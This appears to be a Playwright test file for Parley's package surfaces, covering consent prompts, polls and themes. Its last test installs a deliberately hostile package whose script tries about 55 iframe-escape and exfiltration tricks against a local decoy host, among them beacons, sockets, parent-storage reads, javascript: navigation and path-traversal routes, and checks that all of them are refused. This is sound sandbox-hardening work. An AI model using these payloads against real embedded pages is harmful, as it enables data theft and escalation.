// Pages of packages in a real browser: where they stand in a chat, and that one which attacks reaches nothing.

import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { guard } from './hostile-guard.ts';
import { expect, test } from './journeys.ts';
import type { Parley } from './parley.ts';
import { linger } from './pause.ts';
import { enter, makeRoom, type Person, person, post, sayIn } from './rooms.ts';
import { LONG } from './scale.ts';

test.use({ serverOf: 'surfaces' });

const ROOT = join(import.meta.dirname, '..', '..');

/** Packs, installs and enables a package as its author and an administrator would. */
const install = async (
  parley: Parley,
  { token }: Person,
  files: Readonly<Record<string, string>>,
): Promise<void> => {
  const folder = mkdtempSync(join(tmpdir(), 'parley-e2e-package-'));
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
  const archive = join(folder, 'packed.zip');
  const node = join(ROOT, 'node_modules', '.bin', 'node');
  execFileSync(node, ['tools/package.ts', 'pack', folder, '--out', archive], { cwd: ROOT });
  const form = new FormData();
  form.set('file', new File([readFileSync(archive)], 'package.zip'));
  rmSync(folder, { recursive: true });
  const response = await fetch(`${parley.url}/api/v1/admin/packages/install`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}` },
    body: form,
  });
  const { id } = (await response.json()) as { id: string };
  await post(parley, token, `/admin/packages/${id}/enable`, {}, 'PUT');
};

const manifest = (id: string, surfaces: readonly object[]): string =>
  JSON.stringify({ manifest_version: 1, id, version: '1.0.0', name: id, surfaces });

const html = (script: string, body = ''): string =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Page</title><link rel="stylesheet" href="style.css"><script type="module" src="${script}"></script></head><body>${body}<main id="main"></main></body></html>`;

test('a package stands beside a chat, at a message and at the field', async ({ page, parley }) => {
  const ann = await person(parley, 'ann');
  await install(parley, ann, {
    'manifest.json': manifest('com.example.desk', [
      {
        ...{ slug: 'desk', title: 'Desk', entry: 'ui/index.html' },
        placement: ['channel.panel', 'message.action', 'composer.action'],
        bridge: ['message.get', 'composer.insert', 'resize'],
      },
    ]),
    'ui/index.html': html('app.js'),
    'ui/app.js': `import { ask, connect, make } from './bridge.js';
connect(async ({ params }) => {
  const message = await ask('message.get');
  const write = make('button', { type: 'button', text: 'Write', on: { click: () => ask('composer.insert', { text: 'From the desk' }) } });
  document.querySelector('#main').append(
    make('p', { id: 'chat', text: params.channel_id }),
    make('p', { id: 'said', text: message ? message.text : 'nothing' }),
    write,
  );
  // Asks without a click in the frame, again and again: the click that opened it counts for the browser.
  if (params.message_id) {
    const tries = await Promise.allSettled([1, 2, 3].map((n) => ask('composer.insert', { text: 'Uninvited ' + n })));
    document.querySelector('#main').append(
      make('p', { id: 'tries', text: tries.map(({ status }) => status).join(' ') }),
    );
  }
  await ask('resize', { height: document.body.getBoundingClientRect().height });
});`,
  });
  const room = await makeRoom(parley, ann, { title: 'Beans' });
  await sayIn(parley, ann, room, 'The beans are up.');
  await enter(page, ann, `/c/${room}`);
  const frame = page.frameLocator('iframe[title="Desk"]');

  await page.getByRole('button', { name: 'From packages' }).click();
  await page.getByRole('menuitem', { name: 'Desk' }).click();
  await expect(frame.locator('#chat')).toHaveText(room);
  await expect(frame.locator('#said')).toHaveText('nothing');
  const field = page.getByRole('textbox', { name: 'Message' });
  const asksToWrite = page.getByText('com.example.desk wants to write this into your message');
  await frame.getByRole('button', { name: 'Write' }).click();
  await expect(asksToWrite).toBeVisible();
  await page.getByRole('button', { name: 'Write it', exact: true }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
  await expect(field).toHaveValue('From the desk');

  await page.getByText('The beans are up.').hover();
  await page
    .getByRole('button', { name: /^Actions for the message/ })
    .first()
    .click();
  await page.getByRole('menuitem', { name: 'Desk' }).click();
  await expect(frame.locator('#said')).toHaveText('The beans are up.');
  await expect(page.getByRole('blockquote')).toHaveText('Uninvited 1');
  await page.getByRole('button', { name: 'Do not write it' }).click();
  await expect(frame.locator('#tries')).toHaveText('rejected rejected rejected');
  await expect(asksToWrite).toHaveCount(0);
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
  await expect(field).toHaveValue('From the desk');

  await page.goto(`/c/${room}?panel=files`);
  await page.getByRole('tab', { name: 'Desk' }).click();
  await expect(frame.locator('#chat')).toHaveText(room);
  await expect(page).toHaveURL(/panel=surface/);
  await page.reload();
  await expect(frame.locator('#chat')).toHaveText(room);
});

test(
  'two people vote beside a chat, and each sees at once what the other has chosen',
  LONG,
  async ({ page, parley, another }) => {
    const [ann, bob] = [await person(parley, 'ann'), await person(parley, 'bob')];
    const folder = join(ROOT, 'packages', 'polls');
    const paths = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((path) =>
      /\.\w+$/.test(path),
    );
    await install(
      parley,
      ann,
      Object.fromEntries(paths.map((path) => [path, readFileSync(join(folder, path), 'utf8')])),
    );
    const room = await makeRoom(parley, ann, { title: 'Rowing', guests: [bob] });
    await post(parley, ann.token, '/ext/org.parley.polls/polls', {
      ...{ question: 'When do we row?', answers: ['Six', 'Seven'], channel_id: room },
    });
    const theirs = await another();
    const frameOf = async (at: typeof page, who: Person) => {
      await enter(at, who, `/c/${room}?panel=files`);
      await at.getByRole('tab', { name: 'Polls' }).click();
      const frame = at.frameLocator('iframe[title="Polls"]');
      await expect(frame.getByText('When do we row?')).toBeVisible();
      return frame;
    };
    const [ours, his] = [await frameOf(page, ann), await frameOf(theirs, bob)];
    await his.getByRole('button', { name: 'Seven' }).click();
    await expect(ours.getByText('1 · 100 %')).toBeVisible();
    await ours.getByRole('button', { name: 'Six' }).click();
    await expect(his.getByText('1 · 50 %')).toHaveCount(2);

    // The page of the package is in the rail until Ann takes it off.
    const inRail = page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Polls' });
    await inRail.click();
    await expect(page.getByText('by Parley')).toBeVisible();
    await page.getByRole('button', { name: 'Take off the rail' }).click();
    await expect(inRail).toHaveCount(0);
    await page.reload();
    await page.getByRole('button', { name: 'Pin to the rail' }).click();
    await expect(inRail).toHaveAttribute('aria-current', 'page');
  },
);

test(
  'colours of a package are chosen, and are there again after a reload',
  LONG,
  async ({ page, parley }) => {
    const ann = await person(parley, 'ann');
    const themes = [
      { name: 'forest', title: 'Forest', light: { accent: '#1a7f64' }, dark: { accent: '#63d2b0' } },
    ];
    await install(parley, ann, {
      'manifest.json': JSON.stringify({
        ...{ manifest_version: 1, id: 'com.example.forest', version: '1.0.0', name: 'Forest', kind: 'theme' },
        themes,
      }),
    });
    await enter(page, ann, '/settings/appearance');
    const accent = () =>
      page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--accent').trim());
    await page.getByRole('combobox', { name: 'Colours' }).click();
    await page.getByRole('option', { name: 'Forest' }).click();
    await expect.poll(accent).toBe('#1a7f64');
    await page.getByRole('radio', { name: 'Dark' }).click();
    await expect.poll(accent).toBe('#63d2b0');
    await page.reload();
    await expect.poll(accent).toBe('#63d2b0');
  },
);

/** Each is tried, and says how it went; what throws was refused. WebRTC is not among them: browsers have no working policy against it. */
const attacks = (away: string, ours: string): string => `
const heard = (target, good, bad) => new Promise((done, fail) => { target[good] = done; target[bad] = fail; setTimeout(() => fail('unheard'), 700); });
const element = (tag, attributes, parent = document.body) => { const made = document.createElement(tag); Object.assign(made, attributes); parent.append(made); return made; };
const fetched = (tag, attributes, parent) => heard(element(tag, attributes, parent), 'onload', 'onerror');
const attempts = {
  fetch: () => fetch('${away}/fetch', { mode: 'no-cors' }),
  ownApi: () => fetch('${ours}/api/v1/profile', { credentials: 'include', mode: 'no-cors' }),
  ownFile: () => fetch('./index.html'),
  request: () => { const x = new XMLHttpRequest(); x.open('GET', '${away}/xhr'); x.send(); return heard(x, 'onload', 'onerror'); },
  beacon: () => { if (!navigator.sendBeacon('${away}/beacon', 'x')) throw new Error('refused'); return heard({}, 'a', 'b'); },
  socket: () => heard(new WebSocket('${away.replace('http', 'ws')}'), 'onopen', 'onerror'),
  ownSocket: () => heard(new WebSocket('${ours.replace('http', 'ws')}/ws'), 'onopen', 'onerror'),
  events: () => heard(new EventSource('${away}/events'), 'onopen', 'onerror'),
  transport: () => new WebTransport('${away.replace('http:', 'https:')}/t').ready,
  image: () => fetched('img', { src: '${away}/img.png' }),
  script: () => fetched('script', { src: '${away}/script.js' }),
  ownScript: () => fetched('script', { src: '${ours}/theme.js' }),
  inlineScript: () => { globalThis.ran = 0; element('script', { textContent: 'globalThis.ran = 1' }); if (!globalThis.ran) throw new Error('refused'); },
  handler: () => { globalThis.ran = 0; const made = element('button', {}); made.setAttribute('onclick', 'globalThis.ran = 1'); made.click(); if (!globalThis.ran) throw new Error('refused'); },
  style: () => fetched('link', { rel: 'stylesheet', href: '${away}/style.css' }, document.head),
  prefetch: () => fetched('link', { rel: 'prefetch', href: '${away}/prefetch' }, document.head),
  preload: () => fetched('link', { rel: 'preload', as: 'image', href: '${away}/preload.png' }, document.head),
  background: () => { element('div', { style: 'background: url(${away}/back.png); width: 9px; height: 9px' }); return heard({}, 'a', 'b'); },
  font: () => new FontFace('f', 'url(${away}/f.woff2)').load(),
  video: () => heard(element('video', { src: '${away}/v.mp4' }), 'onloadeddata', 'onerror'),
  object: () => heard(element('object', { data: '${away}/o' }), 'onload', 'onerror'),
  frame: () => { const made = element('iframe', { src: '${away}/frame' }); return heard({}, 'a', 'b'); },
  innerFrame: () => { element('iframe', { srcdoc: '<img src="${away}/inner.png">' }); return heard({}, 'a', 'b'); },
  ourFrame: async () => { const made = element('iframe', { src: '${ours}/' }); await new Promise((done) => setTimeout(done, 500)); return made.contentDocument.title.length; },
  form: () => { const made = element('form', { action: '${away}/form', method: 'post' }); made.submit(); return heard({}, 'a', 'b'); },
  topForm: () => { const made = element('form', { action: '${away}/topform', target: '_top' }); made.submit(); return heard({}, 'a', 'b'); },
  topLink: () => { element('a', { href: '${away}/toplink', target: '_top' }).click(); return heard({}, 'a', 'b'); },
  ping: () => { element('a', { href: '#here', ping: '${away}/ping' }).click(); return heard({}, 'a', 'b'); },
  popup: () => { if (!open('${away}/popup')) throw new Error('refused'); },
  top: () => { top.location = '${away}/top'; return heard({}, 'a', 'b'); },
  page: () => parent.document.title,
  pageStorage: () => parent.localStorage.length,
  pageFunction: () => parent.pwned('called'),
  storage: () => localStorage.length,
  session: () => sessionStorage.length,
  cookie: () => { document.cookie = 'a=1'; if (document.cookie === '') throw new Error('refused'); },
  database: () => new Promise((done, fail) => { const asked = indexedDB.open('x'); asked.onsuccess = done; asked.onerror = fail; }),
  caches: () => caches.open('x'),
  service: () => navigator.serviceWorker.register('/theme.js'),
  worker: () => heard(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'onmessage', 'onerror'),
  evaluate: () => (0, eval)('1'),
  build: () => new Function('return 1')(),
  import: () => import('${away}/module.js'),
  importData: () => import('data:text/javascript,export default 1'),
  base: () => { element('base', { href: '${away}/' }, document.head); if (!document.baseURI.startsWith('${away}')) throw new Error('refused'); },
  dialog: () => { if (confirm('x') !== true) throw new Error('refused'); },
  place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
  clipboard: () => navigator.clipboard.readText(),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
};
const overBridge = (port) => {
  const waiting = new Map();
  port.onmessage = ({ data }) => waiting.get(data.id)?.(data);
  let id = 0;
  return async (method, params) => {
    const { error } = await new Promise((done) => { waiting.set(++id, done); port.postMessage({ id, method, params }); });
    if (error !== undefined) throw new Error(error);
  };
};
const bridged = {
  elsewhere: ['navigate', { path: '${away}/navigate' }],
  twoSlashes: ['navigate', { path: '//${away.replace('http://', '')}/navigate' }],
  program: ['navigate', { path: 'javascript:pwned(1)' }],
  server: ['navigate', { path: '/api/v1/profile' }],
  unasked: ['navigate', { path: '/settings' }],
  steppedRoute: ['route', { path: '/../../../admin/users', method: 'GET' }],
  codedRoute: ['route', { path: '/%2e%2e/%2e%2e/profile', method: 'GET' }],
  otherRoute: ['route', { path: '/other', method: 'GET' }],
  notListed: ['ctx.user', {}],
  write: ['composer.insert', { text: 'x' }],
  inherited: ['constructor', {}],
};
addEventListener('message', async ({ ports: [port] }) => {
  const ask = overBridge(port);
  for (const [name, [method, params]] of Object.entries(bridged))
    try { await ask(method, params); console.log('DONE ' + name); } catch { console.log('refused ' + name); }
  for (const [name, attempt] of Object.entries(attempts))
    try { await attempt(); console.log('DONE ' + name); } catch { console.log('refused ' + name); }
  console.log('all tried');
  element('meta', { httpEquiv: 'refresh', content: '0;url=${away}/refresh' }, document.head);
  // Leaving is last: what was left tries nothing more.
  element('a', { href: '${away}/download', download: 'x' }).click();
  location = '${away}/gone';
}, { once: true });
`;

test('a page of a package that attacks reaches nothing', async ({ page, parley, findings }) => {
  const asked: string[] = [];
  const away = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end();
  }).on('upgrade', ({ url }, socket) => {
    asked.push(url ?? '');
    socket.destroy();
  });
  await new Promise<void>((resolve) => {
    away.listen(0, '127.0.0.1', resolve);
  });
  const { port } = away.address() as AddressInfo;
  const ann = await person(parley, 'ann');
  await install(parley, ann, {
    'manifest.json': manifest('com.example.attack', [
      { slug: 'attack', title: 'Attack', entry: 'ui/index.html', bridge: ['navigate', 'route:/mine'] },
    ]),
    'ui/index.html': html(
      'attack.js',
      `<img src="http://127.0.0.1:${port}/first.png" onerror="parent.pwned(1)"><iframe src="http://127.0.0.1:${port}/firstframe"></iframe>`,
    ),
    'ui/attack.js': attacks(`http://127.0.0.1:${port}`, parley.url),
  });
  const hits = await guard(page);
  const said: string[] = [];
  page.on('console', (message) => said.push(message.text()));
  await enter(page, ann, '/x/com.example.attack/attack');
  await expect.poll(() => said.includes('all tried'), { timeout: 150_000 }).toBe(true);
  await linger(page, 1_000, 'what was going to leave has left');
  expect(said.filter((text) => text.startsWith('DONE'))).toEqual([]);
  expect(said.filter((text) => text.startsWith('refused ')).length).toBeGreaterThanOrEqual(55);
  expect(asked, 'no address was asked for anything').toEqual([]);
  expect(hits).toEqual([]);
  expect(page.url()).toContain('/x/com.example.attack/attack');
  await expect(page.getByRole('heading', { name: 'Attack' })).toBeVisible();
  away.close();
  // The browser told of each refusal.
  findings.splice(0);
});
